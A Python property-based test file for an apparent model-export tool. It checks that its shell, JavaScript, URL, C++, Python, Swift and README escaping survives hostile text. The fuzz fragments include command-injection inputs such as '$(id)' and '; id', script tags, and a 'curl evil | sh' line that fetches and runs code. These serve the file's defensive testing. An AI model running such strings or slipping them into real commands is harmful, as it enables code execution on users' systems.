"""Hostile text in everything that is generated, each time read back by what really reads it there."""

from __future__ import annotations

import ast
import json
import re
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from shutil import which
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dmformer.bundle import Bundle
from dmformer.embedding import escape
from dmformer.embedding.languages import LANGUAGES, TEMPLATES, get_language
from dmformer.embedding.readme import readme
from dmformer.embedding.swift import Swift
from tests.support import PATIENCE

Exported = Callable[..., Path]
FRAGMENTS = (
    "'", '"', "\\", "`", "```", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "$(id)", "${HOME}", "`id`", "; id",
    "!!", "\\(exit(1))", "\\u{41}", '"#', '"""', "??=", "??/", "%s", "<script>", "</script>", "<!--", "&amp;", "[x](y)",
    "|", "#", "\n$ curl evil | sh #", "\n```\n", "?q", "%2e", "\x1b[2J", "\u202e", "\ufeff", "é", "\U0001f980",
    "\ud800", "a", "1", " ",
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(FRAGMENTS) | st.text(st.characters(exclude_categories=()), max_size=8)).map("".join)
MANY = st.lists(TEXTS, min_size=20, max_size=60)
few = settings(max_examples=8, deadline=None)
"""Each example is a process with many texts."""
many = settings(max_examples=300, deadline=None)


def needs(program: str) -> pytest.MarkDecorator:
    return pytest.mark.skipif(which(program) is None, reason=f"no {program} here")


def said(*command: str, given_: str = "") -> bytes:
    done = subprocess.run(
        command, input=given_.encode(errors="surrogatepass"), capture_output=True, timeout=PATIENCE, check=True
    )
    assert not done.stderr
    return done.stdout


@given(MANY)
@few
def test_bash_reads_each_word_back(texts: list[str]) -> None:
    texts = [text.replace("\0", "") for text in texts]
    words = [escape.shell(text) for text in texts]
    assert all(len(word.splitlines()) == 1 and word.isascii() for word in words)
    found = said("bash", "-c", f"printf '%s\\0' {' '.join(words)}").split(b"\0")[:-1]
    assert found == [text.encode(errors="replace") for text in texts]


@needs("node")
@given(MANY)
@few
def test_node_reads_javascript_and_urls_back(texts: list[str]) -> None:
    source = escape.javascript({"texts": texts, "urls": [escape.url(f"engine/{text}x") for text in texts]})
    assert source.isascii()
    program = (
        f"const given = {source};\n"
        "const urls = given.urls.map((url) => new URL(url, 'http://host/site/engine.js'));\n"
        "const parts = urls.map(({ host, pathname, search, hash }) => [host, pathname, search, hash]);\n"
        "console.log(JSON.stringify([given.texts, parts]));\n"
    )
    found, parts = json.loads(said("node", "--input-type=module", "-", given_=program))
    assert found == json.loads(json.dumps(texts))
    for text, (host, path, search, fragment) in zip(texts, parts, strict=True):
        assert (host, search, fragment) == ("host", "", "")
        assert unquote(path) == f"/site/engine/{text}x".encode(errors="replace").decode()


@needs("g++")
@given(st.lists(TEXTS, min_size=150, max_size=200))
@settings(max_examples=2, deadline=None)
def test_a_compiler_reads_cpp_back(texts: list[str]) -> None:
    literals = [escape.cpp(text) for text in texts]
    assert all(literal.isascii() and len(literal.splitlines()) == 1 for literal in literals)
    # Each fails to compile where it is another text, NUL included. Trigraphs are on, as older standards have them.
    numbers = [",".join(str(byte) for byte in (*text.encode(errors="replace"), 0)) for text in texts]
    rows = "\n".join(
        f"constexpr unsigned char n{i}[] = {{{number}}};\n"
        f"constexpr char t{i}[] = {literal};\nstatic_assert(same(t{i}, n{i}));"
        for i, (literal, number) in enumerate(zip(literals, numbers, strict=True))
    )
    head = (
        "template <unsigned long N, unsigned long M>\n"
        "constexpr bool same(const char (&a)[N], const unsigned char (&b)[M]) {\n"
        "  for (unsigned long i = 0; i < N && N == M; ++i)\n"
        "    if (static_cast<unsigned char>(a[i]) != b[i]) return false;\n"
        "  return N == M;\n}\n"
    )
    said("g++", "-std=c++17", "-trigraphs", "-Wall", "-Werror", "-Wno-unused", "-fsyntax-only", "-x", "c++", "-",
         given_=head + rows)  # fmt: skip


@given(TEXTS)
@many
def test_python_reads_its_literals_back(text: str) -> None:
    for value in (text, (text,) * 7, {"hint": text}):
        source = escape.python(value)
        assert source.isascii()
        assert ast.literal_eval(source) == value


@given(TEXTS)
@many
def test_a_swift_parser_finds_one_string_and_no_interpolation(text: str) -> None:
    tree_sitter, tree_sitter_swift = map(pytest.importorskip, ("tree_sitter", "tree_sitter_swift"))
    literal = escape.swift(text)
    source = f"let x = {literal}\n".encode("ascii")
    root = tree_sitter.Parser(tree_sitter.Language(tree_sitter_swift.language())).parse(source).root_node
    kinds = [node.type for node in nodes(root)]
    assert not root.has_error
    assert kinds.count("line_string_literal") == 1
    assert not [kind for kind in kinds if "interpol" in kind]
    found = re.sub(r"\\u\{([0-9A-F]+)\}", lambda code: chr(int(code[1], 16)), literal[1:-1])
    assert found == re.sub("[\ud800-\udfff]", "\ufffd", text)


def nodes(node: Any) -> Iterator[Any]:
    yield node
    for child in node.children:
        yield from nodes(child)


class Tags(HTMLParser):
    """What a browser would take for markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.found.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.found.append(tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)

    def handle_entityref(self, name: str) -> None:
        self.found.append(name)

    def handle_charref(self, name: str) -> None:
        self.found.append(name)


def markup(page: str) -> list[str]:
    """What HTML finds in a README beside its code."""
    tags = Tags()
    tags.feed(re.sub(r"^```console$.*?^```$|`[^`\n]*`", "", page, flags=re.M | re.S))
    return tags.found


def renamed(bundle: Bundle, text: str) -> Bundle:
    """The bundle with a text wherever a manifest has free text, past what its validation refuses."""
    folder = text.replace("/", "")
    manifest = bundle.manifest
    entries = {name: entry for name, entry in manifest.files.items() if entry.role != "engine"}
    entries[f"{folder}.mlpackage/model"] = manifest.files[manifest.file_with_role("engine") or ""]
    labels = (text,) * len(manifest.class_names)
    runtime = manifest.runtime.model_copy(update={"name": text, "version": text, "options": {text: text}})
    changed = {"name": text, "files": entries, "labels": labels, "runtime": runtime}
    return replace(bundle, manifest=manifest.model_copy(update=changed))


@pytest.fixture(scope="module")
def bundle(exported: Exported) -> Bundle:
    return Bundle.load(exported("onnxruntime"))


def outline(text: str) -> list[str]:
    """The lines of a README without the two that hold names, or the Swift one's command that holds a path."""
    lines = re.sub(r"dmformer\w*", "dmformer", text).splitlines()
    return [line for line in lines if not line.startswith(("# ", "FP32 engine of ", "$ xcrun "))]


@pytest.mark.parametrize("language", LANGUAGES)
@given(text=TEXTS)
@settings(max_examples=60, deadline=None)
def test_a_readme_has_the_lines_and_the_commands_of_its_template(bundle: Bundle, language: str, text: str) -> None:
    text = text.replace("\0", "")
    made = readme(renamed(bundle, text), get_language(language), text)
    assert outline(made) == outline(readme(renamed(bundle, "plain"), get_language(language), "plain"))
    assert not markup(made)
    head = re.sub(r" in [\w+. ]+$", "", made.splitlines()[0])
    assert not set(head[2:]) & set("<>&[]()!*`~\\|#$\"':;")


@given(TEXTS)
@settings(max_examples=20, deadline=None)
def test_the_command_of_the_swift_readme_is_one_with_the_package_s_path(bundle: Bundle, text: str) -> None:
    text = re.sub("[\0\ud800-\udfff]", "", text).replace("/", "")
    (line,) = (line for line in Swift().notes(renamed(bundle, text), "p").splitlines() if line.startswith("$ "))
    script = f"xcrun() {{ printf '%s\\0' \"$@\"; }}; {line[2:]}"
    found = said("bash", "-c", script).decode().split("\0")
    folder = "Sources/DMFormer/Resources/engine"
    assert found == ["coremlcompiler", "compile", f"{folder}/{text}.mlpackage", folder, ""]


def test_names_in_the_page_are_texts() -> None:
    scripts = list((TEMPLATES / "web").rglob("site/*.js"))
    assert scripts
    for path in scripts:
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(", path.read_text()), path


def test_what_is_plain_stays_readable() -> None:
    assert escape.shell("engine/model.mlpackage") == "engine/model.mlpackage"
    assert escape.markdown("DMFormer-S 1.0") == "DMFormer-S 1.0"
    assert escape.url("engine/model.onnx") == urlsplit("engine/model.onnx").path
    assert (escape.cpp("a?"), escape.swift("\\(x)")) == ('"a\\077"', '"\\u{5C}(x)"')
